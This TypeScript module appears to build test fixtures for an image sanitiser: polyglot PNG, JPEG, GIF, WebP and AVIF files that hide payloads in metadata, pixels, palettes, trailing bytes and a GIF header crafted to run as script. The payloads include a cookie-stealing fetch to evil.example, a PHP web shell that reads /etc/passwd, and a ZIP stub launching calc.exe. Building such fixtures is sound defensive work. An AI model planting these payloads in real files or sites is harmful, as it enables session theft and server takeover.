import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { text, u16le, u32be, u32le, u8 } from './bytes.ts'
import { blocks, gif, PALETTE } from './gif.ts'
import type { HostileImage } from './image.ts'
import { box } from './isobmff.ts'
import { hollowProfile, jpeg, segment } from './jpeg.ts'
import { chunk, png } from './png.ts'
import { SAMPLES } from './samples.ts'
import type { SampleName } from './samples.ts'
import { canvas, coded, riff, webp } from './webp.ts'

const PAYLOADS: Record<string, string> = {
  html: '<!doctype html><html><body><script>fetch("//evil.example/?"+document.cookie)</script></body></html>',
  php: '<?php system($_GET["cmd"]); echo shell_exec("cat /etc/passwd"); __halt_compiler(); ?>',
  js: '/*smuggled*/=1;alert("visage polyglot "+document.domain);//and so on until the end of the line',
  place: 'Exact place of the photographer: 51.5007 N, 0.1246 W, the second door on the left',
}

const ZIP = Buffer.concat([
  text('PK\x03\x04'), Buffer.alloc(22), u16le(8, 0), text('evil.cmd'), text('start calc.exe & echo visage polyglot archive'),
  text('PK\x01\x02'), Buffer.alloc(42), text('evil.cmd'), text('PK\x05\x06'), Buffer.alloc(18),
])

const SMALL = { width: 40, height: 30 }
const xmp = (payload: string): Buffer => text(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF>${payload}</rdf:RDF></x:xmpmeta>`)

/** A picture's folder of notes that holds one text, the artist. */
function exif (payload: string): Buffer {
  const value = text(`${payload}\0`)
  return Buffer.concat([text('II*\0'), u32le(8), u16le(1, 0x13b, 2), u32le(value.length, 26, 0), value])
}

const profile = (payload: string): Buffer => {
  const bytes = Buffer.concat([hollowProfile('RGB '), text(payload)])
  bytes.writeUInt32BE(bytes.length)
  return bytes
}

/** Pixels that are the payload, over and over, as they are stored. */
function asPixels (payload: string): Buffer {
  const row = (y: number): Buffer => Buffer.concat([u8(0), text(payload.repeat(9).slice(y, y + SMALL.width * 3))])
  return png(SMALL, { data: deflateSync(Buffer.concat(Array.from({ length: SMALL.height }, (_, y) => row(y))), { level: 0 }) })
}

type Wrap = (payload: string) => Buffer | Promise<Buffer>

const WRAPS: Record<string, Wrap> = {
  'png-text': (payload) => png(SMALL, { extra: [chunk('tEXt', text(`Comment\0${payload}`))] }),
  'png-compressed-text': (payload) => png(SMALL, { extra: [chunk('zTXt', Buffer.concat([text('Comment\0\0'), deflateSync(payload)]))] }),
  'png-international-text': (payload) => png(SMALL, { extra: [chunk('iTXt', text(`XML:com.adobe.xmp\0\0\0\0\0${xmp(payload).toString('latin1')}`))] }),
  'png-exif': (payload) => png(SMALL, { extra: [chunk('eXIf', exif(payload))] }),
  'png-profile': (payload) => png(SMALL, { extra: [chunk('iCCP', Buffer.concat([text('icc\0\0'), deflateSync(profile(payload))]))] }),
  'png-own-chunk': (payload) => png(SMALL, { extra: [chunk('viSg', text(payload))] }),
  'png-palette': (payload) => Buffer.concat([png(SMALL, { extra: [chunk('PLTE', text(payload.slice(0, 60)))] })]),
  'png-pixels': asPixels,
  'png-after-the-pixels': (payload) => png(SMALL, { data: Buffer.concat([deflateSync(Buffer.alloc(30 * 121)), text(payload)]) }),
  'jpeg-comment': (payload) => jpeg({ ...SMALL, segments: [segment(0xfe, text(payload))] }),
  'jpeg-application': (payload) => jpeg({ ...SMALL, segments: [segment(0xe7, text(payload))] }),
  'jpeg-exif': (payload) => jpeg({ ...SMALL, segments: [segment(0xe1, Buffer.concat([text('Exif\0\0'), exif(payload)]))] }),
  'jpeg-xmp': (payload) => jpeg({ ...SMALL, segments: [segment(0xe1, Buffer.concat([text('http://ns.adobe.com/xap/1.0/\0'), xmp(payload)]))] }),
  'jpeg-profile': (payload) => jpeg({ ...SMALL, segments: [segment(0xe2, Buffer.concat([text('ICC_PROFILE\0\x01\x01'), profile(payload)]))] }),
  'jpeg-photoshop': (payload) => jpeg({ ...SMALL, segments: [segment(0xed, Buffer.concat([text('Photoshop 3.0\x008BIM\x04\x04\0\0'), u32be(payload.length), text(payload)]))] }),
  'jpeg-written-by-sharp': async (payload) => sharp(await SAMPLES.jpeg(5)).withExif({ IFD0: { Artist: payload, Copyright: payload } }).jpeg().toBuffer(),
  'gif-comment': (payload) => gif({ ...SMALL, frames: [SMALL], extra: [u8(0x21, 0xfe), blocks(text(payload))] }),
  'gif-application': (payload) => gif({ ...SMALL, frames: [SMALL], extra: [u8(0x21, 0xff, 11), text('XMP DataXMP'), xmp(payload), blocks(Buffer.alloc(0))] }),
  'gif-plain-text': (payload) => gif({ ...SMALL, frames: [SMALL], extra: [u8(0x21, 0x01, 12), Buffer.alloc(12), blocks(text(payload))] }),
  // The width is `/*`, so that a browser reads the beginning as `GIF89a/*…` and the rest as a program.
  'gif-program': (payload) => Buffer.concat([gif({ width: 0x2a2f, height: 10, frames: [SMALL] }), text(`*/${payload}`)]),
  'gif-colours': (payload) => {
    const bytes = gif({ ...SMALL, frames: [SMALL] })
    return Buffer.concat([bytes.subarray(0, 10), u8(0x94), bytes.subarray(11, 13), text(payload.slice(0, 96).padEnd(96, '.')), bytes.subarray(13 + PALETTE.length)])
  },
  'webp-xmp': async (payload) => webp(canvas(120, 80, 0x04), coded(await SAMPLES.webp(6)), riff('XMP ', xmp(payload))),
  'webp-exif': async (payload) => webp(canvas(120, 80, 0x08), coded(await SAMPLES.webp(6)), riff('EXIF', exif(payload))),
  'webp-profile': async (payload) => webp(canvas(120, 80, 0x20), riff('ICCP', profile(payload)), coded(await SAMPLES.webp(6))),
  'webp-own-chunk': async (payload) => webp(canvas(120, 80), coded(await SAMPLES.webp(6)), riff('EVIL', text(payload))),
  'avif-free': async (payload) => Buffer.concat([await SAMPLES.avif(6), box('free', text(payload))]),
  'avif-own-box': async (payload) => Buffer.concat([await SAMPLES.avif(6), box('uuid', Buffer.alloc(16, 0xbe), text(payload))]),
  'avif-exif': async (payload) => sharp(await SAMPLES.avif(6)).withExif({ IFD0: { Artist: payload } }).avif({ effort: 0 }).toBuffer(),
}

/** Formats whose decoders do not look at what comes after the picture. */
const APPENDED: SampleName[] = ['png', 'jpeg', 'webp', 'gif', 'avif']

const polyglot = (name: string, make: HostileImage['make'], payload: Buffer): HostileImage => ({ name: `polyglot-${name}`, must: 'either', make, payload })

const inside = Object.entries(WRAPS).flatMap(([name, wrap], i) => {
  const kinds = Object.keys(PAYLOADS)
  return [kinds[i % kinds.length], kinds[(i + 1) % kinds.length]].map((kind = 'html') => {
    const payload = PAYLOADS[kind] ?? ''
    return polyglot(`${name}-with-${kind}`, () => wrap(payload), text(payload))
  })
})

const after = APPENDED.flatMap((format) => ([['script', text(PAYLOADS['html'] ?? '')], ['archive', ZIP]] as const).map(([kind, payload]) =>
  polyglot(`${format}-then-${kind}`, async () => Buffer.concat([await SAMPLES[format](7), payload]), payload)))

export const POLYGLOTS: HostileImage[] = [...inside, ...after]
